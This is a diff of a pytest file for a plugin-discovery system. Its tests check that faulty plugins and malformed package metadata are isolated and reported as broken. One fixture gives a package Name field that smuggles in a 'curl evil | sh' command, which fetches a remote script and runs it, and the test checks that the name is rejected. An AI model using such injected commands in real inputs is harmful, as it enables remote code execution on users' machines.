@@ -2,7 +2,14 @@
 
 from __future__ import annotations
 
+import io
+import locale
+import logging
+import os
+import signal
 import sys
+import textwrap
+import warnings
 from importlib import metadata
 
 import pytest
@@ -11,7 +18,7 @@ from support.hosts import GOOD, by_name, declares, host, put_distribution
 import tokframe
 from tokframe.errors import UnknownNameError
 from tokframe.plugins import metadata as distributions
-from tokframe.plugins.discovery import PluginWarning
+from tokframe.plugins.discovery import Host, PluginWarning
 
 
 def test_a_good_plugin_is_recorded_and_its_names_resolve(plugin):
@@ -73,9 +80,127 @@ def test_an_entry_point_that_leads_nowhere_is_broken(plugin, value):
     assert record.status == "broken" and record.reason
 
 
-def test_an_interrupt_is_not_taken_for_a_broken_plugin(plugin):
+class Panic(BaseException):
+    """What a Rust extension raises where it panics."""
+
+
+class UnspeakableError(Exception):
+    def __str__(self):
+        raise ValueError("no text")
+
+
+ANY_CLASS = {
+    "KeyboardInterrupt": "raise KeyboardInterrupt",
+    "a cancelled task": "import asyncio\nraise asyncio.CancelledError",
+    "GeneratorExit": "raise GeneratorExit",
+    "StopIteration": "raise StopIteration",
+    "RecursionError": "def deeper(): deeper()\ndeeper()",
+    "an exit that says success": "raise SystemExit(0)",
+    "a class of its own": "from plugins.test_discovery import Panic\nraise Panic",
+    "an error without text": "from plugins.test_discovery import UnspeakableError\nraise UnspeakableError",
+}
+
+
+@pytest.mark.parametrize("source", ANY_CLASS.values(), ids=ANY_CLASS)
+@pytest.mark.parametrize("hook", ["", "components", "tokenizers", "commands", "migrations"])
+def test_whatever_a_plugin_raises_anywhere_it_harms_no_other(plugin, monkeypatch, source, hook):
+    monkeypatch.setitem(sys.modules, "plugins.test_discovery", sys.modules[__name__])
+    if hook:
+        source = f"@tokframe.hookimpl\ndef tokframe_{hook}():\n" + textwrap.indent(source, "    ")
+    found = host(plugin("acme-rude", source), plugin("zz-fine", declares("fine")))
+    assert by_name(found)["zz-fine"].status == "ok"
+    if hook in ("commands", "migrations"):
+        with pytest.warns(PluginWarning, match=f"{hook} of plugin acme-rude:acme-rude left out"):
+            assert getattr(found, hook)() == []
+    else:
+        assert by_name(found)["acme-rude"].status == "broken" and by_name(found)["acme-rude"].reason
+
+
+def test_an_interrupt_by_a_signal_is_one(plugin):
     with pytest.raises(KeyboardInterrupt):
-        _ = host(plugin("acme-slow", "raise KeyboardInterrupt")).records
+        _ = host(plugin("acme-slow", "import signal\nsignal.raise_signal(signal.SIGINT)")).records
+
+
+SETTINGS = {
+    "warning filters": ("warnings.simplefilter('error')", lambda: list(warnings.filters)),
+    "the working directory": ("os.chdir('/')", os.getcwd),
+    "a recursion limit too low": ("sys.setrecursionlimit(200)", sys.getrecursionlimit),
+    "a signal handler": ("signal.signal(signal.SIGINT, signal.SIG_IGN)", lambda: signal.getsignal(signal.SIGINT)),
+    "stdout": ("sys.stdout = None", lambda: sys.stdout),
+    "stdin": ("sys.stdin = None", lambda: sys.stdin),
+    "the hook for errors": ("sys.excepthook = print", lambda: sys.excepthook),
+    "the locale": ("locale.setlocale(locale.LC_ALL, 'C')", lambda: locale.setlocale(locale.LC_ALL)),
+    "the root logger": (
+        "logging.basicConfig(level=1, force=True)",
+        lambda: (logging.root.level, logging.root.handlers[:]),
+    ),
+}
+
+
+@pytest.mark.parametrize(("source", "state"), SETTINGS.values(), ids=SETTINGS)
+def test_what_a_plugin_sets_for_the_process_is_restored(plugin, monkeypatch, source, state):
+    if "locale" in source:
+        before = locale.setlocale(locale.LC_ALL)
+        monkeypatch.setattr(locale, "_tokframe_test", before, raising=False)
+        locale.setlocale(locale.LC_ALL, "C.UTF-8")
+    try:
+        expected = state()
+        (record,) = host(
+            plugin("acme-sets", f"import locale, logging, os, signal, sys, warnings\n{source}\n" + GOOD)
+        ).records
+        assert (record.status, record.reason) == ("ok", "")
+        assert state() == expected
+    finally:
+        if "locale" in source:
+            locale.setlocale(locale.LC_ALL, before)
+
+
+def test_a_recursion_limit_that_is_raised_stays(plugin):
+    before = sys.getrecursionlimit()
+    try:
+        _ = host(plugin("acme-deep", f"import sys\nsys.setrecursionlimit({before + 7})\n" + GOOD)).records
+        assert sys.getrecursionlimit() == before + 7
+    finally:
+        sys.setrecursionlimit(before)
+
+
+def test_a_plugin_that_reads_stdin_takes_nothing_from_it(plugin, monkeypatch):
+    monkeypatch.setattr(sys, "stdin", io.StringIO("the user's text\n"))
+    assert host(plugin("acme-asks", "input()")).records[0].reason.startswith("EOFError")
+    assert sys.stdin.read() == "the user's text\n"
+
+
+def test_the_module_of_another_distribution_as_entry_point_breaks_neither(plugin):
+    shared = plugin("acme-owner", GOOD, module="acme_shared_mod")
+    found = host(plugin("aa-borrows", value="acme_shared_mod"), shared)
+    assert {record.status for record in found.records} == {"conflict"}
+    assert found.registry.component("quantizer", "acme-owner/good")
+
+
+MISTAKES = {
+    "forgotten hookimpl": (
+        "def tokframe_components():\n    return []",
+        "is @hookimpl missing from tokframe_components?",
+    ),
+    "no hook at all": ("pass", "adds nothing: is @hookimpl missing?"),
+    "a spec, no list": (GOOD.replace("[tok", "tok").replace(")]", ")"), "expected a list of ComponentSpec"),
+    "a text": (
+        "@tokframe.hookimpl\ndef tokframe_components():\n    return 'fsq'",
+        "tokframe_components returned 'fsq'",
+    ),
+    "no return": ("@tokframe.hookimpl\ndef tokframe_tokenizers():\n    pass", "expected a list of TokenizerSpec"),
+    "misspelled hook": ("@tokframe.hookimpl\ndef tokframe_compnents(): pass", "did you mean 'tokframe_components'?"),
+    "a hook of nobody": ("@tokframe.hookimpl\ndef setup(): pass", "hooks are tokframe_components"),
+    "no dependency": ("import not_there_at_all", "No module named 'not_there_at_all'. Try: pip install acme-author"),
+    "summary": (GOOD.replace("target=", "summary=None, target="), "summary None of 'good' is not a text"),
+    "extra": (GOOD.replace("target=", "extra=['train'], target="), "extra ['train'] of 'good' is not a text"),
+}
+
+
+@pytest.mark.parametrize(("source", "said"), MISTAKES.values(), ids=MISTAKES)
+def test_a_mistake_of_an_author_is_told_with_its_remedy(plugin, source, said):
+    (record,) = host(plugin("acme-author", source)).records
+    assert record.status == "broken" and said in record.reason
 
 
 def test_an_entry_point_may_name_an_object(plugin):
@@ -157,11 +282,46 @@ def test_a_strangers_damaged_metadata_does_not_end_discovery(tmp_path, monkeypat
     damaged.mkdir()
     (damaged / "METADATA").write_text("Metadata-Version: 2.1\nName: stranger\nVersion: 1.0\n", encoding="utf-8")
     (damaged / "entry_points.txt").write_text("[tokframe]\nno equals sign here\n", encoding="utf-8")
-    (tmp_path / "nameless.dist-info").mkdir()
     monkeypatch.syspath_prepend(str(tmp_path))
     with pytest.warns(PluginWarning, match="stranger-1.0.dist-info cannot be read"):
         found = distributions.installed()
     assert all(isinstance(point, metadata.EntryPoint) for point, _ in found)
+
+
+UNSOUND = {
+    "no METADATA": (None, "has no Name"),
+    "no Name": (b"Metadata-Version: 2.1\nVersion: 1.0\n", "has no Name"),
+    "no UTF-8": (b"Name: \xff\xfe\n", "cannot be read"),
+    "the name of another": (b"Name: tokframe-bpe\nVersion: 1.0\n", "says that it is 'tokframe-bpe'"),
+    "a command": (b"Name: acme; curl evil | sh\nVersion: 1.0\n", "is not a name"),
+}
+
+
+@pytest.mark.parametrize(("text", "reason"), UNSOUND.values(), ids=UNSOUND)
+@pytest.mark.parametrize("folder", ["acme_odd-1.0.dist-info", "acme_odd.egg-info"])
+def test_a_distribution_without_a_name_of_its_own_is_broken_and_not_imported(
+    tmp_path, monkeypatch, folder, text, reason
+):
+    info = tmp_path / "site" / folder
+    info.mkdir(parents=True)
+    if text is not None:
+        (info / ("METADATA" if "dist" in folder else "PKG-INFO")).write_bytes(text)
+    (info / "entry_points.txt").write_text("[tokframe]\nodd = acme_odd_mod\n", encoding="utf-8")
+    (tmp_path / "site" / "acme_odd_mod.py").write_text("raise RuntimeError", encoding="utf-8")
+    put_distribution(tmp_path / "later", "acme-odd", "acme_odd_mod", version="2.0")
+    monkeypatch.syspath_prepend(str(tmp_path / "site"))
+    records = [record for record in Host(allow=["acme-odd", "tokframe-bpe"]).records if record.status != "disabled"]
+    assert [(r.distribution, r.status) for r in records if "odd" in r.distribution] == [("acme-odd", "broken")]
+    assert reason in by_name(Host(allow=["acme-odd"]))["acme-odd"].reason
+    assert all(r.status == "ok" for r in records if r.distribution != "acme-odd")
+    assert by_name(Host(deny=["acme_odd"]))["acme-odd"].status == "disabled"
+    assert "acme_odd_mod" not in sys.modules
+    sys.path.append(str(tmp_path / "later"))  # what an upgrade left behind does not hide what it installed
+    try:
+        found = [r.version for r in Host(allow=["acme-odd"]).records if r.distribution == "acme-odd"]
+    finally:
+        sys.path.remove(str(tmp_path / "later"))
+    assert len(found) == 2 and "2.0" in found
 
 
 def test_of_two_copies_of_a_distribution_the_first_on_the_path_counts(tmp_path, monkeypatch):
